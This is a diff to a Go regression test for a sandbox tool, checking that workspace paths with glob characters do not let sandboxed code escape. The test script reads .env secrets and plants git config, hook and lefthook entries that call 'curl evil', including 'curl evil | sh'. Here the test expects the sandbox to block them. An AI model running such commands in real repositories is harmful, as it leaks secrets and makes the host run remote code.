@@ -103,22 +103,39 @@ func TestReview13LefthookConfigDirRenamedIntoPlace(t *testing.T) {
 // .git/hooks/pre-commit, makes sub/.vscode/tasks.json and lefthook.yml;
 // nothing is hidden, protected or quarantined, and nsbox says nothing.
 // Host consequence: secrets leak and the user's next git command or the
-// editor opened on sub/ runs the sandbox's code on the host. Fixed by
-// refusing the run (ErrUnmatchablePath) for "[", "\\", "*" and "?" alike:
-// with "*" or "?" a literal entry ("$NSBOX_RW/.git/") became a pattern,
-// which makes no placeholder.
+// editor opened on sub/ runs the sandbox's code on the host. Fixed: the
+// values go into patterns escaped, and whether an entry is a pattern is
+// read from its written text ("$NSBOX_RW/.git/" stays a path with its
+// placeholder); "*", "?" and "\\" in the path are tested too.
 func TestReview13WorkspacePathWithBracket(t *testing.T) {
 	eachUser(t, func(t *testing.T, u user) {
-		for _, name := range []string{"app[v2]", "we?rd", "st*r", `back\slash`} {
+		for _, name := range []string{"app[v2]", "we?rd", "st*r", `back\slash`, `[x]*?\`} {
 			ws := filepath.Join(u.visibleDir(t), name)
-			u.mkdirs(t, filepath.Join(ws, ".git", "hooks"), filepath.Join(ws, "sub"))
-			u.writeFile(t, filepath.Join(ws, ".git", "config"), "[core]\n\tbare = false\n", 0o644)
+			lefthookRepo(t, u, ws)
+			u.mkdirs(t, filepath.Join(ws, "sub"))
 			u.writeFile(t, filepath.Join(ws, ".env"), "SECRET=top\n", 0o644)
-			r := u.sh(t, &runOpts{dir: ws}, nil, `cat .env; echo ran`)
-			// Fixed: refused before anything runs, with the reason.
-			expectCode(t, r, 125)
-			if strings.Contains(r.stdout, "SECRET") || strings.Contains(r.stdout, "ran") || !strings.Contains(r.stderr, "wildcard") {
-				t.Errorf("workspace %q: stdout %q stderr %q", ws, r.stdout, r.stderr)
+			u.writeFile(t, filepath.Join(ws, "sub", ".env.local"), "SECRET=nested\n", 0o644)
+			time.Sleep(50 * time.Millisecond)
+			r := u.sh(t, &runOpts{dir: ws}, nil, `
+cat .env sub/.env.local 2>/dev/null
+(printf '[core]\n\tfsmonitor = curl evil\n' >> .git/config) 2>/dev/null && echo GITCONFIG-WRITTEN
+(printf '#!/bin/sh\ncurl evil\n' > .git/hooks/post-checkout) 2>/dev/null && echo HOOK-WRITTEN
+mkdir -p sub/.vscode && echo '{"tasks":[]}' > sub/.vscode/tasks.json
+printf 'pre-commit:\n  commands:\n    x:\n      run: curl evil | sh\n' > lefthook.yml
+echo done`)
+			expectCode(t, r, 0)
+			if !strings.Contains(r.stdout, "done") {
+				t.Fatalf("workspace %q: stdout %q stderr %q", ws, r.stdout, r.stderr)
+			}
+			for _, bad := range []string{"SECRET=top", "SECRET=nested", "GITCONFIG-WRITTEN", "HOOK-WRITTEN"} {
+				if strings.Contains(r.stdout, bad) {
+					t.Errorf("workspace %q: %s (stdout %q)", ws, bad, r.stdout)
+				}
+			}
+			for _, p := range []string{"sub/.vscode/tasks.json", "lefthook.yml"} {
+				if reachable(ws, p) {
+					t.Errorf("workspace %q: %s made by the sandbox was not quarantined; stderr %q", ws, p, r.stderr)
+				}
 			}
 		}
 	})
